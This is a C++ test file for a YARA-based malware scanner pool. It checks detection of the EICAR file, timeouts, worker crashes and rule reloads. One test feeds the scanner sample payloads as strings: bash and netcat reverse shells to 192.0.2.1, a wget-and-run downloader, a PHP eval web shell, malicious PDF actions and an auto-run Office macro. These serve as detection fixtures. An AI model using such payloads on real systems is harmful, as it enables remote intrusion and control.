// The real pool with real redoubt-scan processes.
#include "scan/scan_pool.h"

#include <dirent.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/mman.h>
#include <unistd.h>
#include <algorithm>
#include <array>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <thread>

#include "base/file.h"
#include "tests/corpora.h"

namespace redoubt::scan {
namespace {

// In two parts, so that no scanner takes this source for the test file.
std::string eicar() {
  return std::string("X5O!P%@AP[4\\PZX54(P^)7CC)7}") + "$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*";
}

base::UniqueFd memory_file(std::string_view content) {
  base::UniqueFd fd(memfd_create("object", MFD_CLOEXEC));
  CHECK(base::write_all(fd.get(), content));
  return fd;
}

// Never ends by itself: libyara looks at its clock in whole seconds, the pool's deadline is sooner.
constexpr std::string_view kEndlessRule = R"(
rule Endless {
  strings: $start = "spin"
  condition: $start and for all i in (0..100000000000) : (i + filesize >= 0)
}
rule Quick { meta: importance = "low" strings: $start = "quick" condition: $start }
)";

class ScanPoolTest : public testing::Test {
 protected:
  ScanPoolOptions options(const std::string& rules) {
    ScanPoolOptions options;
    options.worker_program = REDOUBT_BUILD_DIR "/bin/redoubt-scan";
    options.yara_directory = rules;
    options.workers = 1;
    return options;
  }
  void write_rule(std::string_view name, std::string_view text) {
    ASSERT_TRUE(base::write_file_atomic(directory_ / name, text, base::kPublicFile));
  }
  std::unique_ptr<ScanPool> own_rules() {
    auto pool = start_scan_pool(options(REDOUBT_SOURCE_DIR "/rules/yara"));
    CHECK(pool);
    return *std::move(pool);
  }
  base::TempDir directory_;
};

std::vector<std::string> names(const ScanReport& report) {
  std::vector<std::string> names;
  for (const Detection& detection : report.detections) names.push_back(detection.rule);
  return names;
}

// Children of this process that run redoubt-scan.
std::vector<pid_t> worker_pids() {
  std::vector<pid_t> pids;
  DIR* proc = opendir("/proc");
  while (const dirent* entry = readdir(proc)) {
    std::ifstream file(std::string("/proc/") + entry->d_name + "/stat");
    pid_t pid = 0;
    std::string name;
    char state = 0;
    pid_t parent = 0;
    if (file >> pid >> name >> state >> parent && parent == getpid() && name == "(redoubt-scan)") pids.push_back(pid);
  }
  closedir(proc);
  return pids;
}

// Processor time in clock ticks.
long ticks_used(pid_t pid) {
  std::ifstream file("/proc/" + std::to_string(pid) + "/stat");
  std::string field;
  constexpr int kUserTime = 14;
  for (int number = 1; number <= kUserTime; ++number) file >> field;
  return std::atol(field.c_str());
}

// Until the worker is deep in an object that never ends.
void wait_until_busy(pid_t pid) {
  constexpr long kBusyTicks = 10;
  const long before = ticks_used(pid);
  for (int i = 0; i < 3000 && ticks_used(pid) < before + kBusyTicks; ++i) usleep(10'000);
}

TEST_F(ScanPoolTest, detects_the_eicar_file_and_names_engine_rule_and_version) {
  const auto pool = own_rules();
  const ScanReport report = pool->scan(memory_file(eicar()), {"mail/eicar.com"});
  ASSERT_EQ(report.verdict, Verdict::detect) << report.error;
  ASSERT_EQ(report.detections.size(), 1U);
  const Detection& detection = report.detections[0];
  EXPECT_EQ(detection.engine, "yara");
  EXPECT_EQ(detection.rule, "EICAR_Test_File");
  EXPECT_EQ(detection.importance, "high");
  EXPECT_EQ(detection.description, "EICAR anti-virus test file");
  EXPECT_FALSE(detection.engine_version.empty());
  EXPECT_TRUE(detection.rule_set.starts_with("yara ")) << detection.rule_set;
  ASSERT_EQ(report.engines.size(), 1U);
  EXPECT_TRUE(report.engines[0].starts_with("yara " + detection.engine_version + " (rules ")) << report.engines[0];
  EXPECT_EQ(report.mime_type, "text/plain");
  EXPECT_GT(report.finished.us, 0);
  EXPECT_GT(report.duration_us, 0);
}

TEST_F(ScanPoolTest, clean_content_is_not_detected) {
  const auto pool = own_rules();
  for (const std::string_view content : {"hello\n", "", "#!/bin/sh\nset -e\nchmod +x build.sh\ncurl --version\n"}) {
    const ScanReport report = pool->scan(memory_file(content), {"clean"});
    EXPECT_EQ(report.verdict, Verdict::not_detected) << report.error << content;
  }
  const base::UniqueFd program(open("/bin/true", O_RDONLY | O_CLOEXEC));
  EXPECT_EQ(pool->scan(program, {"true"}).verdict, Verdict::not_detected);
}

TEST_F(ScanPoolTest, tells_the_cpu_an_object_took) {
  const auto pool = own_rules();
  const ScanReport report = pool->scan(memory_file(std::string(size_t{8} << 20, 'a')), {"large"});
  EXPECT_GT(report.cpu.yara_ns, 1'000'000) << "libyara passes over every byte";
  EXPECT_GT(report.cpu.all_ns, report.cpu.yara_ns);
  EXPECT_LE(report.cpu.all_ns, report.duration_us * 1000);
}

TEST_F(ScanPoolTest, own_rules_find_what_they_are_for) {
  const auto pool = own_rules();
  struct Sample {
    std::string content;
    std::string rule;
  };
  std::string preload = std::string(
                            "\x7f"
                            "ELF",
                            4) +
                        std::string(12, '\0') + std::string("\x03\0", 2) + std::string(40, '\0');
  for (const char* text : {"/etc/ld.so.preload", "dlsym", "readdir64", "access", "/proc/net/tcp"}) {
    preload += std::string(text) + '\0';
  }
  const std::array samples = {
      Sample{std::string("\x7f"
                         "ELF") +
                 std::string(60, '\0') + "$Info: This file is packed with the UPX executable packer",
             "Linux_ELF_UPX_Packed"},
      Sample{preload, "Linux_ELF_Preload_Rootkit"},
      Sample{"{\"algo\": \"rx/0\", \"donate-level\": 1, \"url\": \"stratum+tcp://pool.example.org:3333\"}",
             "Linux_Coin_Miner"},
      Sample{"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "Script_Reverse_Shell"},
      Sample{"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
             "Script_Reverse_Shell"},
      Sample{"#!/bin/sh\ncd /tmp\nwget http://192.0.2.1/x.sh\nchmod +x x.sh\n./x.sh\n", "Script_Download_And_Run"},
      Sample{"<?php @eval(base64_decode($_POST['x'])); ?>", "PHP_Web_Shell"},
      Sample{"%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n",
             "PDF_Runs_JavaScript_On_Open"},
      Sample{"%PDF-1.4\n1 0 obj\n<< /S /Launch /F (cmd.exe) >>\n", "PDF_Launches_Program"},
      Sample{"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nCreateObject(\"WScript.Shell\").Run \"calc\"\nEnd "
             "Sub\n",
             "Office_Macro_Runs_Program"},
  };
  for (const Sample& sample : samples) {
    const ScanReport report = pool->scan(memory_file(sample.content), {"sample"});
    const auto found = names(report);
    EXPECT_NE(std::find(found.begin(), found.end(), sample.rule), found.end()) << sample.rule << report.error;
  }
}

TEST_F(ScanPoolTest, external_variables_are_defined) {
  write_rule("name.yar", R"(rule Named {
    condition: filename == "a.exe" and filepath == "b/a.exe" and extension == ".exe" and filetype == "text/plain" and
               owner == "" })");
  const auto pool = start_scan_pool(options(directory_.path()));
  ASSERT_TRUE(pool) << pool.error().message;
  EXPECT_EQ((*pool)->scan(memory_file("text\n"), {"b/a.exe"}).verdict, Verdict::detect);
  EXPECT_EQ((*pool)->scan(memory_file("text\n"), {"b/c.exe"}).verdict, Verdict::not_detected);
}

TEST_F(ScanPoolTest, object_past_its_time_is_a_timeout_and_the_next_is_judged) {
  write_rule("endless.yar", kEndlessRule);
  ScanPoolOptions impatient = options(directory_.path());
  impatient.object_time_ms_max = 300;
  const auto pool = start_scan_pool(impatient);
  ASSERT_TRUE(pool) << pool.error().message;
  const ScanReport late = (*pool)->scan(memory_file("spin"), {"spin"});
  EXPECT_EQ(late.verdict, Verdict::timeout) << late.error;
  EXPECT_LT(late.duration_us, 3'000'000);
  EXPECT_EQ((*pool)->scan(memory_file("quick"), {"quick"}).verdict, Verdict::detect);
}

TEST_F(ScanPoolTest, engine_has_a_clock_of_its_own) {
  write_rule("endless.yar", kEndlessRule);
  ScanPoolOptions patient = options(directory_.path());
  patient.object_time_ms_max = 1900;  // the engine gives up after one second
  const auto pool = start_scan_pool(patient);
  ASSERT_TRUE(pool) << pool.error().message;
  const auto before = worker_pids();
  EXPECT_EQ((*pool)->scan(memory_file("spin"), {"spin"}).verdict, Verdict::timeout);
  EXPECT_EQ(worker_pids(), before);
}

TEST_F(ScanPoolTest, worker_killed_at_work_is_an_error_that_names_the_signal_and_is_replaced) {
#if defined(__SANITIZE_ADDRESS__)
  GTEST_SKIP() << "skipped: the address sanitizer makes an exit of a crash";
#endif
  write_rule("endless.yar", kEndlessRule);
  const auto pool = start_scan_pool(options(directory_.path()));
  ASSERT_TRUE(pool) << pool.error().message;
  ScanReport report;
  std::thread scan([&] { report = (*pool)->scan(memory_file("spin"), {"spin"}); });
  const auto pids = worker_pids();
  ASSERT_EQ(pids.size(), 1U);
  wait_until_busy(pids[0]);
  kill(pids[0], SIGSEGV);
  scan.join();
  EXPECT_EQ(report.verdict, Verdict::error);
  EXPECT_EQ(report.error, "worker ended by signal 11 (Segmentation fault)");
  EXPECT_EQ((*pool)->scan(memory_file("quick"), {"quick"}).verdict, Verdict::detect);
}

TEST_F(ScanPoolTest, huge_sparse_object_costs_nothing) {
  const auto pool = own_rules();
  const base::UniqueFd sparse(memfd_create("sparse", MFD_CLOEXEC));
  ASSERT_EQ(ftruncate(sparse.get(), off_t{1} << 30), 0);
  const ScanReport report = pool->scan(sparse, {"sparse"});
  EXPECT_EQ(report.verdict, Verdict::error);
  EXPECT_NE(report.error.find("1073741824 bytes is larger than"), std::string::npos) << report.error;
  EXPECT_LT(report.duration_us, 1'000'000);
  EXPECT_EQ(pool->scan(memory_file(eicar()), {"next"}).verdict, Verdict::detect);
}

TEST_F(ScanPoolTest, object_that_is_no_file_is_an_error) {
  const auto pool = own_rules();
  const base::UniqueFd directory(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  EXPECT_EQ(pool->scan(directory, {"dir"}).error, "object is not a regular file");
  EXPECT_EQ(pool->scan(base::UniqueFd(), {"none"}).verdict, Verdict::error);
}

TEST_F(ScanPoolTest, rule_that_does_not_compile_is_left_out_and_named_with_its_line) {
  write_rule("good.yar", "rule Good { strings: $a = \"object\" condition: $a }");
  write_rule("typo.yar",
             "rule Before { strings: $a = \"object\" condition: $a }\n"
             "rule Typo {\n  strings:\n    $a = \"x}\"\n  condition:\n    $b\n}\n"
             "rule Needs { condition: Typo }\n"
             "rule After { strings: $a = /obj}ect|object/ condition: $a }\n");
  const auto pool = start_scan_pool(options(directory_.path()));
  ASSERT_TRUE(pool) << pool.error().message;
  const auto refused = (*pool)->diagnostics();
  ASSERT_EQ(refused.size(), 2U);
  EXPECT_EQ(refused[0].file, directory_ / "typo.yar");
  EXPECT_EQ(refused[0].line, 7U);
  EXPECT_EQ(refused[0].message, "Typo: undefined string \"$b\"");
  EXPECT_EQ(refused[1].line, 8U);
  EXPECT_EQ(names((*pool)->scan(memory_file("object"), {"o"})), (std::vector<std::string>{"Good", "Before", "After"}));
}

TEST_F(ScanPoolTest, no_rule_that_compiles_is_an_error) {
  write_rule("typo.yar", "rule Typo {\n condition:\n  $b\n}\n");
  const auto pool = start_scan_pool(options(directory_.path()));
  ASSERT_FALSE(pool);
  EXPECT_EQ(pool.error().code, Errc::invalid_argument);
  EXPECT_EQ(pool.error().message,
            "yara: no rule compiles: " + (directory_ / "typo.yar") + " line 4: Typo: undefined string \"$b\"");
}

TEST_F(ScanPoolTest, rules_cannot_include_files) {
  write_rule("include.yar", "include \"/etc/passwd\"\nrule A { strings: $a = \"object\" condition: $a }");
  const auto pool = start_scan_pool(options(directory_.path()));
  ASSERT_TRUE(pool) << pool.error().message;
  ASSERT_EQ((*pool)->diagnostics().size(), 1U);
  EXPECT_EQ((*pool)->diagnostics()[0].line, 1U);
  EXPECT_EQ(names((*pool)->scan(memory_file("object"), {"o"})), std::vector<std::string>{"A"});
}

TEST_F(ScanPoolTest, public_rule_sets_compile_with_refused_rules_named) {
  const std::string rules = tests::corpora_directory() + "/yara";
  if (!std::filesystem::is_directory(rules)) GTEST_SKIP() << "skipped: no corpora";
  const auto pool = start_scan_pool(options(rules));
  ASSERT_TRUE(pool) << pool.error().message;
  for (const RefusedRule& refused : (*pool)->diagnostics()) {
    EXPECT_FALSE(refused.message.empty());
    std::printf("%s line %llu: %s\n", refused.file.c_str(), static_cast<unsigned long long>(refused.line),
                refused.message.c_str());
  }
  EXPECT_LT((*pool)->diagnostics().size(), 20U);
  EXPECT_EQ((*pool)->scan(memory_file("hello\n"), {"o"}).verdict, Verdict::not_detected);
}

TEST_F(ScanPoolTest, reload_takes_new_rules_and_keeps_the_old_ones_on_an_error) {
  write_rule("a.yar", "rule First { strings: $a = \"object\" condition: $a }");
  const auto pool = start_scan_pool(options(directory_.path()));
  ASSERT_TRUE(pool) << pool.error().message;
  const ScanReport first = (*pool)->scan(memory_file("object"), {"o"});
  EXPECT_EQ(names(first), std::vector<std::string>{"First"});
  write_rule("a.yar", "rule Broken {");
  EXPECT_FALSE((*pool)->reload());
  EXPECT_EQ(names((*pool)->scan(memory_file("object"), {"o"})), std::vector<std::string>{"First"});
  write_rule("a.yar", "rule Second { strings: $a = \"object\" condition: $a }");
  ASSERT_TRUE((*pool)->reload());
  const ScanReport second = (*pool)->scan(memory_file("object"), {"o"});
  EXPECT_EQ(names(second), std::vector<std::string>{"Second"});
  EXPECT_NE(first.engines, second.engines);
}

TEST_F(ScanPoolTest, missing_program_or_rules_are_named) {
  ScanPoolOptions wrong = options(directory_.path());
  EXPECT_EQ(start_scan_pool(wrong).error().message, "yara rules: no *.yar file in " + directory_.path());
  write_rule("a.yar", "rule A { condition: false }");
  wrong.worker_program = directory_ / "absent";
  const auto pool = start_scan_pool(wrong);
  ASSERT_FALSE(pool);
  EXPECT_NE(pool.error().message.find(wrong.worker_program), std::string::npos) << pool.error().message;
}

TEST_F(ScanPoolTest, stop_ends_every_worker) {
  ScanPoolOptions two = options(REDOUBT_SOURCE_DIR "/rules/yara");
  two.workers = 2;
  const auto pool = start_scan_pool(two);
  ASSERT_TRUE(pool);
  std::thread other([&] { (*pool)->scan(memory_file(eicar()), {"a"}); });
  (*pool)->scan(memory_file(eicar()), {"b"});
  other.join();
  EXPECT_FALSE(worker_pids().empty());
  (*pool)->stop();
  EXPECT_TRUE(worker_pids().empty());
  EXPECT_EQ((*pool)->scan(memory_file("x"), {"x"}).error, "the scan pool stops");
}

}  // namespace
}  // namespace redoubt::scan
